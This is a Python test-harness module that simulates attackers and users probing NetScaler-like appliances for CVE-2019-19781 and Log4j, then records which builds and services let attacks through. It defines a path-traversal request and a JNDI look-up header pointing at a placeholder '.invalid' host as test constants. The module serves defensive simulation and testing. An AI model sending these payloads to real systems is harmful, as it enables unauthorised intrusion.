# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""The world of a night: what attackers and users get at each service and at each management address, which builds run, and what people did.

Nothing in it comes from the product: no record, report or result, and no code of it. A witness asks after each action, and leaves no trace.
"""

from __future__ import annotations

import copy
import ipaddress
import re
from collections.abc import Iterable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from enum import StrEnum
from types import MappingProxyType
from typing import Any
from unittest import mock

from simulator import Simulator
from simulator.appliance.appliance import Appliance
from simulator.node import logs
from tests.stage.client import Answer, ask

ATTACK = "/vpn/../vpns/cfg/smb.conf"
"""A published, harmless check of CVE-2019-19781: it reads a static file (TrustedSec scanner, Nuclei template)."""
LOOK_UP = {"X-Api-Version": "${jndi:ldap://probe.invalid/a}"}
"""A published form of CVE-2021-44228, for what logs a header; names in .invalid lead nowhere (RFC 2606)."""
LOG_ON, HOME = "/vpn/index.html", "/"
ELSEWHERE = "/elsewhere/page"
"""A path that no list allows."""
MARKER = "/netscaler/portal/templates/night.xml"
"""A file in a directory in which the attackers of January 2020 left files."""
MARKED = "pwnpzi1337\n"
"""A word of a public list of indicators; it does nothing."""
BULLETIN, EXPLOIT = date(2019, 12, 17), date(2020, 1, 10)
"""CTX267027; the first day of public exploit code by most sources."""
INSIDE, PARTNER = "127.0.0.1", "127.0.0.9"
LISTED = "127.66.0.9"
"""A client in a list that a geoblock names."""
ABROAD, OUTSIDE, SIX = "198.51.100.66", "203.0.113.7", "2001:db8::9"
"""Clients in a country that a geoblock names, in none, and, at an address of IPv6, the first of all but those inside."""
CLIENTS = (INSIDE, PARTNER, LISTED, ABROAD, OUTSIDE)
_PART = re.compile(r"^(/var/log/http\S+\.log)\.\d+(?:\.\w+)?$")
START_UP, KNOB = "/nsconfig/rc.netscaler", b"skip_systemaccess_policyeval=0"
AGENTS = ("curl", "Nagios")
"""Of the clients that attack: the second is what a policy of others may let pass."""
FIXED = {"13.0": (47, 24), "12.1": (55, 18), "12.0": (63, 13), "11.1": (63, 15), "10.5": (70, 12)}
"""The first builds with the fix, by train: bulletin CTX267027."""


def is_fixed(build: str) -> bool:
    """Return whether a build has the fix, by the bulletin; a train that is not in it was never affected."""
    train, number = build.split(" ")
    return was_never_affected(build) or tuple(map(int, number.split("."))) >= FIXED[train]


def was_never_affected(build: str) -> bool:
    return build.partition(" ")[0] not in FIXED


@dataclass(frozen=True)
class Weakness:
    """A weakness of which a night knows each attack.

    :ivar id: of the entry of the catalogue; likewise policy, the name of its measure on an appliance
    :ivar exploit: the first day of public exploit code
    :ivar listed: when CISA put it on its list
    :ivar version: of its measure
    :ivar is_behind: it is in what is behind an appliance: no build has it, and none ends it
    """

    id: str
    cve: str
    bulletin: date
    exploit: date
    version: int
    listed: date
    is_behind: bool = False

    @property
    def policy(self) -> str:
        return f"tq_{self.id}"

    def is_fixed(self, build: str) -> bool:
        return not self.is_behind and is_fixed(build)

    def was_never_affected(self, build: str) -> bool:
        return self.is_behind or was_never_affected(build)


PORTAL = Weakness("cve_2019_19781", "CVE-2019-19781", BULLETIN, EXPLOIT, 2, date(2021, 11, 3))
LOG4J = date(2021, 12, 10)
"""Of Log4j: the page of Apache, the first public exploit code, and CISA's list."""
BEHIND = Weakness("cve_2021_44228", "CVE-2021-44228", LOG4J, LOG4J, 1, LOG4J, is_behind=True)


class Got(StrEnum):
    """What a user gets at a service."""

    SERVED = "the service"
    PAGE = "a page that says it is closed"
    REFUSED = "a refusal"
    NOTHING = "nothing"


@dataclass(frozen=True)
class Place:
    """A service that is reached from outside: a virtual server of a customer."""

    appliance: str
    vserver: str
    customer: str
    partition: str = "default"


@dataclass(frozen=True)
class Sight:
    """What the witness saw between two actions.

    :ivar passes: by place, how an attack got through; likewise behind, by a look-up for what is behind an appliance
    :ivar got: by place and client, what a user got
    :ivar elsewhere: by place, whether the service itself answers for a path that no list allows
    :ivar managed: by appliance, the indices of the nodes at whose management address an attack got through
    :ivar builds: by appliance, the build of each node
    """

    at: datetime
    passes: Mapping[Place, tuple[str, ...]]
    got: Mapping[tuple[Place, str], Got]
    elsewhere: Mapping[Place, bool]
    managed: Mapping[str, tuple[int, ...]]
    builds: Mapping[str, tuple[str, ...]]
    behind: Mapping[Place, tuple[str, ...]] = field(default_factory=dict)

    def ways(self, weakness: Weakness = PORTAL) -> Mapping[Place, tuple[str, ...]]:
        """Return by place how an attack on a weakness got through."""
        return self.behind if weakness.is_behind else self.passes

    def reached(self, appliance: str, weakness: Weakness) -> tuple[int, ...]:
        """Return the indices of the nodes at whose management address an attack on a weakness got through."""
        return () if weakness.is_behind else self.managed[appliance]

    def passed(self, appliance: str, weakness: Weakness = PORTAL) -> tuple[str, ...]:
        """Return where and how an attack got through to an appliance by a virtual server."""
        return tuple(
            f"{place.vserver} {how}"
            for place, ways in self.ways(weakness).items()
            if place.appliance == appliance
            for how in ways
        )

    def is_all_fixed(self, appliance: str, weakness: Weakness = PORTAL) -> bool:
        return all(map(weakness.is_fixed, self.builds[appliance]))


@dataclass(frozen=True)
class BreakIn:
    """An attacker got in at a place, and left a file."""

    at: datetime
    place: Place
    left: str = MARKER


def _seen_at(there: Mapping[str, Any], client: str) -> str:
    """Return from which address a client comes: at an address of IPv6, from one of these."""
    if ":" not in there["address"]:
        return client
    return "::1" if client == INSIDE else str(ipaddress.ip_address(SIX) + CLIENTS.index(client))


@dataclass
class World:
    """The fleet as attackers and users meet it.

    :ivar weaknesses: those whose attacks the witness sends
    :ivar builds: by appliance, the build of each node: those of a pair may differ
    :ivar sights: what the witness saw, the earliest first
    :ivar logs_from: the times at which the oldest parts of logs began whose earlier ones newsyslog has removed
    """

    simulator: Simulator
    places: tuple[Place, ...]
    builds: dict[str, list[str]]
    sights: list[Sight] = field(default_factory=list)
    break_ins: list[BreakIn] = field(default_factory=list)
    logs_from: set[datetime] = field(default_factory=set)
    _turned_over: dict[tuple[str, int, str], set[datetime]] = field(default_factory=dict)
    weaknesses: tuple[Weakness, ...] = (PORTAL,)

    def running(self, appliance: str) -> Appliance:
        return self.simulator.fleet.appliances[appliance]

    def places_of(self, appliance: str | None = None, customer: str | None = None) -> list[Place]:
        return [one for one in self.places if appliance in (None, one.appliance) and customer in (None, one.customer)]

    def customers(self, appliance: str | None = None) -> list[str]:
        return list(dict.fromkeys(one.customer for one in self.places_of(appliance)))

    # -- what the witness sees ----------------------------------------------------------------------------------------

    def look(self, at: datetime) -> Sight:
        """Let the witness ask each service and each management address."""
        with self.without_trace():
            passes = {place: tuple(self._passes(place)) for place in self.places}
            got = {(place, client): self._got(place, client) for place in self.places for client in CLIENTS}
            elsewhere = {place: self._answers(self._ask(place, ELSEWHERE, AGENTS[0], INSIDE)) for place in self.places}
            managed = {name: tuple(self._managed(name)) for name in self.builds}
            known = self.places if BEHIND in self.weaknesses else ()
            behind = {place: tuple(self._looks_up(place)) for place in known}
        builds = {name: tuple(builds) for name, builds in self.builds.items()}
        self.sights.append(Sight(at, passes, got, elsewhere, managed, builds, behind))
        return self.sights[-1]

    def attack(self, at: datetime, appliance: str) -> bool:
        """Let an attacker try each service of an appliance, and leave a file where one lets him in; return whether one did."""
        inside = [place for place in self.places_of(appliance) if self._ask(place, ATTACK, AGENTS[0], INSIDE).passes]
        for place in inside:
            self.simulator.appliance(appliance).write_file(MARKER, MARKED)
            self.break_ins.append(BreakIn(at, place))
        return bool(inside)

    def _passes(self, place: Place) -> Iterator[str]:
        if self.is_gateway(place) or not is_fixed(self._build(place.appliance)):
            for agent in AGENTS:
                for client in CLIENTS:
                    if self._reaches(place, self._ask(place, ATTACK, agent, client)):
                        yield f"{agent} {client}"

    def look_up(self, appliance: str) -> bool:
        """Let an attacker send a look-up to each service of an appliance; return whether one got through."""
        through = [self._is_looked_up(place, AGENTS[0], INSIDE) for place in self.places_of(appliance)]
        return any(through)

    def _looks_up(self, place: Place) -> Iterator[str]:
        for agent in AGENTS:
            for client in CLIENTS:
                if self._is_looked_up(place, agent, client):
                    yield f"{agent} {client}"

    def _is_looked_up(self, place: Place, agent: str, client: str) -> bool:
        """Return whether a look-up got to what logs it: a portal, or a server behind a virtual server, which names itself."""
        answer = self._ask(place, self._front(place), agent, client, LOOK_UP)
        return answer.status == 200 if self.is_gateway(place) else "server" in answer.headers

    def _front(self, place: Place) -> str:
        """Return what a user asks first."""
        return LOG_ON if self.is_gateway(place) else HOME

    def _reaches(self, place: Place, answer: Answer) -> bool:
        """Return whether an attack got to its target: the file of a Gateway, or a server behind another virtual server, which names itself."""
        if self.is_gateway(place):
            return answer.passes
        return "server" in answer.headers

    def is_gateway(self, place: Place) -> bool:
        """Return whether the portal answers there: a Gateway, or a log-on of its own."""
        return self._address(place)["type"] in ("vpn", "authentication")

    def lets_somebody_in(self, place: Place) -> bool:
        """Return whether a service serves a client now that says what an attacker may say."""
        with self.without_trace():
            return any(
                self._got(place, client, agent, method) is Got.SERVED
                for client in CLIENTS
                for agent in (AGENTS[1], "x")
                for method in ("GET", "POST")
            )

    def _got(self, place: Place, client: str, agent: str = AGENTS[0], method: str = "GET") -> Got:
        answer = self._ask(place, self._front(place), agent, client, method=method)
        if answer.status is None:
            return Got.NOTHING
        if answer.status == 503 and "retry-after" in answer.headers:
            return Got.PAGE
        return Got.SERVED if answer.status == 200 else Got.REFUSED

    @staticmethod
    def _answers(answer: Answer) -> bool:
        """Return whether a service itself has answered: no responder, and no page that says it is closed."""
        return answer.status not in (None, 503) and not answer.blocked_by()

    def _managed(self, appliance: str) -> Iterator[int]:
        """Yield the nodes whose management address lets the attack pass. Each answers as its own build does: the secondary of a pair may run another one."""
        for index, node in enumerate(self.simulator.ready["appliances"][appliance]["nodes"]):
            own = self.builds[appliance][index]
            self.running(appliance)._run(own)
            asked = ({"User-Agent": agent} for agent in AGENTS)
            if not is_fixed(own) and any(ask(node, ATTACK, headers=agent).passes for agent in asked):
                yield index
        self.settle()

    def is_covered_at_the_start(self, appliance: str) -> bool:
        """Return whether the start-up file of each node lets the policies judge what its management address gets (CTX267679)."""
        files = [node.files.get(START_UP) for node in self.running(appliance).nodes]
        return all(file is not None and KNOB in bytes(file.content) for file in files)

    def _ask(
        self,
        place: Place,
        target: str,
        agent: str,
        client: str,
        headers: Mapping[str, str] = MappingProxyType({}),
        method: str = "GET",
    ) -> Answer:
        there, said = self._address(place), {"User-Agent": agent, **headers}
        return ask(there, target, method=method, client=_seen_at(there, client), headers=said)

    def _address(self, place: Place) -> Mapping[str, Any]:
        found = self.simulator.ready["appliances"][place.appliance]["vservers"]
        return next(
            one for one in found if (one["name"], one.get("partition", "default")) == (place.vserver, place.partition)
        )

    def _build(self, appliance: str) -> str:
        return self.builds[appliance][self.running(appliance).primary.index]

    @contextmanager
    def without_trace(self) -> Iterator[None]:
        """Restore the counters that requests have changed, and forget their lines of logs, which are not written yet."""
        nodes = [node for name in self.builds for node in self.running(name).nodes]
        for node in nodes:
            logs.flush(node)
        self._see_logs()
        inside = [one for node in nodes for one in (node, *node.partitions.values())]
        kept = [(one, copy.deepcopy(one.counters), one.log_number) for one in inside]
        with mock.patch.object(logs, "flush"):  # with faults each line is written at once
            yield
        for one, counters, number in kept:
            one.pending_log_lines = []
            one.counters, one.log_number = counters, number

    def _see_logs(self) -> None:
        """Note when the parts of logs were turned over: the oldest part that is there began when the one before it was, which is gone."""
        for name in self.builds:
            for node in self.running(name).nodes:
                parts: dict[str, int] = {}
                for path, file in node.files.items():
                    if match := _PART.match(path):
                        turned = datetime.fromtimestamp(file.modified, UTC)
                        self._turned_over.setdefault((name, node.index, match[1]), set()).add(turned)
                        parts[match[1]] = parts.get(match[1], 0) + 1
                for log, count in parts.items():
                    turns = sorted(self._turned_over[name, node.index, log], reverse=True)
                    self.logs_from |= {*turns[count : count + 1]}

    # -- builds -------------------------------------------------------------------------------------------------------

    def install(self, appliance: str, build: str, nodes: Iterable[int] | None = None) -> None:
        """Install a build on some nodes, which boot into it, or on all."""
        handle = self.simulator.appliance(appliance)
        chosen = range(len(self.builds[appliance])) if nodes is None else tuple(nodes)
        for index in chosen:
            self.builds[appliance][index] = build
            if nodes is not None:
                handle.reboot(index, 0)
        if nodes is None:
            handle.upgrade(build)
        self.settle()

    def settle(self) -> None:
        """Let each appliance answer traffic as the build of its primary does."""
        for name in self.builds:
            build = self._build(name)
            if self.running(name).build != build:
                self.running(name)._run(build)
